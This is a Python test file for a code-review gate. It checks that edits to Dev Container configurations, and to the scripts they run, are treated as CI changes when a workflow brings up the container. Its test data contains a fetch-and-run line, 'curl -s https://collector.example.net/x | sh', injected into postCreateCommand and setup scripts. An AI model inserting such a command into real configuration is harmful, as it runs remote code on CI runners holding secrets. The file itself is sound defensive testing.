"""Red team 23: the Dev Container a CI job brings up was an editor's settings, and the default gate allowed editing it.

`uses: devcontainers/ci@v0.3`, the Azure Pipelines task `DevcontainersCi@0` and the Dev Container CLI (`devcontainer
up`, `npx @devcontainers/cli exec`) build the job's container from `.devcontainer/devcontainer.json` and run its
lifecycle commands (`initializeCommand` on the runner itself, `postCreateCommand` inside, with the checkout and the
step's secrets). The path rules call `.devcontainer/**` editor settings (`other.editor`), so with the commits an edit
making CI run `curl ... | sh` there, in a script the file names, or in the file a `configFile:`/`--config` names, was
allowed (gate exit 0). Now a CI definition that brings up a Dev Container runs every Dev Container configuration of
the tree and what it names (`ci.context.ci-run`). From a patch alone the workflow is not shown: the patch limit,
unchanged (editor settings stay `other`).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.classify.devcontainers import configurations
from tests.gitrepo import two_commits
from tests.incli import reviewed_paths, tree_gate
from tests.test_classify_context import tree_files

EVIL = "curl -s https://collector.example.net/x | sh"
DC = '{\n  "image": "mcr.microsoft.com/devcontainers/base:ubuntu",\n  "postCreateCommand": "make setup"\n}\n'
STEPS = "on: [push]\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n"
ACTION = STEPS + "      - uses: devcontainers/ci@v0.3\n        with:\n          runCmd: make test\n"
CLI = STEPS + ("      - run: npx @devcontainers/cli@0.71.0 up --workspace-folder .\n"
               "      - run: npx @devcontainers/cli@0.71.0 exec --workspace-folder . make test\n")
WORKFLOWS = {
    "action": {".github/workflows/dev.yml": ACTION},
    "action quoted, in a matrix job": {".github/workflows/dev.yml": ACTION.replace(
        "devcontainers/ci@v0.3", "'devcontainers/ci@8bf61b26e9c3a98f69cb6ce2f88d24ff59b785c6'")},
    "cli": {".github/workflows/dev.yml": CLI},
    "cli installed": {".github/workflows/dev.yml": STEPS + (
        "      - run: npm install -g @devcontainers/cli\n      - run: devcontainer up --workspace-folder .\n")},
    "gitlab": {".gitlab-ci.yml": "test:\n  image: node:20\n  script:\n    - npm i -g @devcontainers/cli\n"
                                 "    - devcontainer up --workspace-folder .\n"},
    "azure": {"azure-pipelines.yml": "steps:\n  - task: DevcontainersCi@0\n    inputs:\n      runCmd: make test\n"},
}
EDITS = {  # the edited file: (BASE, HEAD), and the files beside it
    ".devcontainer/devcontainer.json": (DC, DC.replace("make setup", EVIL)),
    ".devcontainer.json": (DC, DC.replace("make setup", EVIL)),
    ".devcontainer/post-create.sh": ("make setup\n", f"{EVIL}\n"),
}


@each_case("target, workflow", [(target, workflow) for target in sorted(EDITS) for workflow in sorted(WORKFLOWS)])
def test_the_dev_container_a_ci_job_brings_up_is_ci(tmp_path: Path, workflow: str, target: str) -> None:
    old, new = EDITS[target]
    repo, base, head = two_commits(tmp_path / "repo", {**WORKFLOWS[workflow], target: old}, {target: new})
    assert tree_files(repo, f"{base}..{head}")[target].bucket == "ci"


@pytest.mark.parametrize("command", ['"postCreateCommand": "bash scripts/setup.sh"',
                                     '"postCreateCommand": ["bash", "scripts/setup.sh"]',
                                     '"initializeCommand": {"prep": "./scripts/setup.sh"}'])
def test_a_script_its_commands_run_is_ci(tmp_path: Path, command: str) -> None:
    config = '{\n  "image": "mcr.microsoft.com/devcontainers/base:ubuntu",\n  ' + command + "\n}\n"
    repo, base, head = two_commits(tmp_path / "repo", {**WORKFLOWS["action"], "scripts/setup.sh": "make setup\n",
                                                       ".devcontainer/devcontainer.json": config},
                                   {"scripts/setup.sh": f"{EVIL}\n"})
    assert tree_files(repo, f"{base}..{head}")["scripts/setup.sh"].bucket == "ci"


@pytest.mark.parametrize(("where", "workflow"), [
    ("tools/env/.devcontainer/devcontainer.json", ACTION.replace("runCmd:", "subFolder: tools/env\n          runCmd:")),
    ("ops/dev.json", ACTION.replace("runCmd:", "configFile: ./ops/dev.json\n          runCmd:")),
    ("ops/dev.json", CLI.replace("exec --workspace-folder .", "exec --workspace-folder . --config ops/dev.json")),
])
def test_the_configuration_a_step_chooses_is_ci(tmp_path: Path, where: str, workflow: str) -> None:
    repo, base, head = two_commits(tmp_path / "repo", {".github/workflows/dev.yml": workflow, where: DC},
                                   {where: DC.replace("make setup", EVIL)})
    assert tree_files(repo, f"{base}..{head}")[where].bucket == "ci"


def test_the_default_gate_reviews_the_edit(tmp_path: Path) -> None:
    target = ".devcontainer/devcontainer.json"
    repo, base, head = two_commits(tmp_path / "repo", {**WORKFLOWS["action"], target: DC},
                                   {target: DC.replace("make setup", EVIL)})
    code, decision = tree_gate(repo.root, base, head)
    assert code == 3 and reviewed_paths(decision, "core.ci") == {target}


@pytest.mark.parametrize("workflow", [
    STEPS + "      - run: make test\n",
    STEPS + "      # the .devcontainer folder is for local work only: devcontainer up is not run here\n"
            "      - run: make test\n",
    STEPS + "      - uses: actions/upload-artifact@v4\n        with:\n          path: .devcontainer/\n",
])
def test_a_dev_container_no_job_brings_up_stays_editor_settings(tmp_path: Path, workflow: str) -> None:
    target = ".devcontainer/devcontainer.json"
    repo, base, head = two_commits(tmp_path / "repo", {".github/workflows/ci.yml": workflow, target: DC},
                                   {target: DC.replace("make setup", "make setup && make lint")})
    assert tree_files(repo, f"{base}..{head}")[target].bucket == "other"


def test_configurations_names_what_a_step_chooses() -> None:
    assert configurations("steps:\n  - run: make test\n") == []
    chosen = "- uses: devcontainers/ci@v0.3\n  with:\n    configFile: ./.devcontainer/ci/devcontainer.json\n"
    assert configurations(chosen)[-1] == ".devcontainer/ci/devcontainer.json"
    assert configurations("- run: devcontainer up --config=../outside.json --workspace-folder .\n") == \
        configurations("- run: devcontainer up --workspace-folder .\n")
